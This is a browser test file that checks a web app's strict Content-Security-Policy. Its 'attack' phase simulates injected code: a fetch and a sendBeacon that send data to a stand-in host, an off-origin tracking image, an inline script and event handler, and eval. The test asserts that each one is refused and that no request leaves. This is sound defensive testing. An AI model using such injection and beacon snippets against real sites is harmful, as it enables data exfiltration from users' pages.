// The page's Content-Security-Policy (written by scripts/post-build.mjs) is strict and the browser
// enforces it: a fetch to another host, an off-origin image, an inline script and eval are each
// refused with a securitypolicyviolation, and no request leaves. Every off-origin request is also
// aborted by the test (context.route) and recorded, so a missing policy fails instead of leaking.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DIST, startServer } from './server.mjs';
import {
  TEST_TIMEOUT_MS,
  fixture,
  guardRequests,
  launchBrowser,
  openApp,
  parseCspMeta,
  paste,
  recordCspViolations,
  settleServiceWorker,
  waitForReport,
} from './browser.mjs';

describe('content security policy', { timeout: TEST_TIMEOUT_MS * 2 }, () => {
  let server;
  let other; // a second origin on this machine: "off origin" need not mean "on the internet"
  let browser;
  let context;

  before(async () => {
    server = await startServer();
    other = await startServer({ root: null, routes: { '/x': { body: 'x', type: 'text/plain' } } });
    browser = await launchBrowser();
  });

  after(async () => {
    await context?.close().catch(() => {});
    await browser?.close();
    await server?.close();
    await other?.close();
  });

  it('dist/index.html carries a strict CSP meta before anything it governs', () => {
    const html = readFileSync(join(DIST, 'index.html'), 'utf8');
    const { policy, raw, index } = parseCspMeta(html);
    assert.deepEqual(policy['default-src'], ["'none'"], `default-src 'none': ${raw}`);
    assert.deepEqual(policy['connect-src'], ["'self'"], `connect-src 'self' only: ${raw}`);
    assert.ok(policy['script-src'], `a script-src: ${raw}`);
    for (const v of policy['script-src']) {
      assert.match(v, /^('self'|'sha256-[A-Za-z0-9+/]+=*'|'wasm-unsafe-eval')$/, `script-src allows only self, hashes and wasm: ${v}`);
    }
    for (const bad of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'strict-dynamic'", '*', 'http:', 'https:']) {
      assert.ok(!raw.split(/[\s;]+/).includes(bad), `no ${bad} in the policy: ${raw}`);
    }
    assert.deepEqual(policy['form-action'], ["'none'"], 'form-action none');
    // A CSP meta governs only what comes after it: it must precede every script, link and style.
    const firstGoverned = html.search(/<(script|link|style)\b/i);
    assert.ok(firstGoverned === -1 || index < firstGoverned, 'the CSP meta comes before any script, link or style');
  });

  it('the browser enforces it: fetch, image, inline script and eval are refused, nothing leaves', { timeout: TEST_TIMEOUT_MS }, async () => {
    let log;
    const app = await openApp(browser, server.url, {
      beforeGoto: async ({ context: ctx, page }) => {
        log = await guardRequests(ctx, server.origin);
        await recordCspViolations(page);
      },
    });
    context = app.context;
    const { page } = app;
    await page.waitForLoadState('networkidle');
    await settleServiceWorker(page);
    await paste(page, fixture('seeds/azure-devops-read-only.txt'));
    await waitForReport(page, (r) => r.subjects.length === 1, 'a subject for read-only scopes (the app works under its CSP)');
    assert.deepEqual(await page.evaluate(() => window.__cspViolations), [], 'the app itself causes no violation');
    log.setPhase('attack');

    const result = await page.evaluate(async (otherUrl) => {
      const out = {};
      const attempt = async (name, fn) => {
        try {
          out[name] = `allowed: ${await fn()}`;
        } catch (e) {
          out[name] = `refused: ${e?.name}`;
        }
      };
      await attempt('fetchRemote', () => fetch('https://example.invalid/x').then((r) => r.status));
      await attempt('fetchOtherOrigin', () => fetch(otherUrl).then((r) => r.status));
      await attempt('beacon', () => navigator.sendBeacon('https://example.invalid/beacon', 'data'));
      // DevTools lets code it evaluates call eval, so eval is tried from a later task, where the
      // page's own policy applies.
      const later = (fn) => new Promise((ok) => setTimeout(() => attempt(fn.name, fn).then(ok), 0));
      await later(function evalLater() {
        return eval('1 + 1');
      });
      await later(function newFunctionLater() {
        return new Function('return 2')();
      });
      // An off-origin image and an inline script element, added the way injected markup would be.
      const img = document.createElement('img');
      img.src = 'https://example.invalid/pixel.png';
      document.body.append(img);
      // An inline event handler (what an HTML injection would use); its image is same-origin data.
      const img2 = document.createElement('img');
      img2.setAttribute('onerror', 'window.__handlerRan = true');
      img2.src = 'data:image/png;base64,AAAA';
      document.body.append(img2);
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true;';
      document.body.append(s);
      // Violation events are queued; give them time to arrive.
      for (let i = 0; i < 40 && window.__cspViolations.length < 7; i++) await new Promise((r) => setTimeout(r, 50));
      out.inlineRan = window.__inlineRan === true;
      out.handlerRan = window.__handlerRan === true;
      out.violations = window.__cspViolations;
      return out;
    }, `${other.origin}/x`);

    assert.equal(result.fetchRemote, 'refused: TypeError', 'fetch to another host is refused');
    assert.equal(result.fetchOtherOrigin, 'refused: TypeError', 'fetch to another local origin is refused');
    assert.equal(result.evalLater, 'refused: EvalError', 'eval is refused (no unsafe-eval)');
    assert.equal(result.newFunctionLater, 'refused: EvalError', 'new Function is refused');
    assert.equal(result.inlineRan, false, 'an injected inline script does not run');
    assert.equal(result.handlerRan, false, 'an injected inline event handler does not run');

    const byDirective = (re) => result.violations.filter((v) => re.test(v.directive));
    assert.ok(
      byDirective(/^connect-src$/).some((v) => v.blockedURI.startsWith('https://example.invalid')),
      `a connect-src violation for the remote fetch: ${JSON.stringify(result.violations)}`,
    );
    assert.ok(
      byDirective(/^connect-src$/).some((v) => v.blockedURI.startsWith(other.origin)),
      `a connect-src violation for the other origin: ${JSON.stringify(result.violations)}`,
    );
    // sendBeacon returns true (queued) either way; the policy stops it before the network.
    assert.ok(
      byDirective(/^connect-src$/).some((v) => v.blockedURI.startsWith('https://example.invalid/beacon')),
      `a connect-src violation for sendBeacon: ${JSON.stringify(result.violations)}`,
    );
    assert.ok(
      byDirective(/^img-src$/).some((v) => v.blockedURI.startsWith('https://example.invalid')),
      `an img-src violation for the remote image: ${JSON.stringify(result.violations)}`,
    );
    assert.ok(byDirective(/^script-src(-elem)?$/).some((v) => v.blockedURI === 'inline'), `a script-src violation for the inline script: ${JSON.stringify(result.violations)}`);
    assert.ok(byDirective(/^script-src-attr$/).some((v) => v.blockedURI === 'inline'), `a script-src-attr violation for the inline handler: ${JSON.stringify(result.violations)}`);
    assert.ok(byDirective(/^script-src$/).some((v) => v.blockedURI === 'eval'), `a script-src violation for eval: ${JSON.stringify(result.violations)}`);

    await page.waitForTimeout(300);
    assert.deepEqual(log.offOrigin, [], 'no request reached the network layer for another origin');
    // Chromium reports the blocked image as a request that failed with "csp" (ERR_BLOCKED_BY_CSP) before
    // reaching the network (the route above never saw it); anything else is a leak.
    const attempts = log.all.filter((r) => r.phase === 'attack');
    assert.deepEqual(
      attempts.filter((r) => !/^(csp|net::ERR_BLOCKED_BY_CSP)$/.test(r.failure ?? '')),
      [],
      `every request the attempts started was stopped by the CSP: ${JSON.stringify(attempts)}`,
    );
    assert.equal(other.requests.length, 0, 'the other origin\'s server saw nothing');
    assert.deepEqual(app.pageErrors, [], 'no page errors');
  });
});
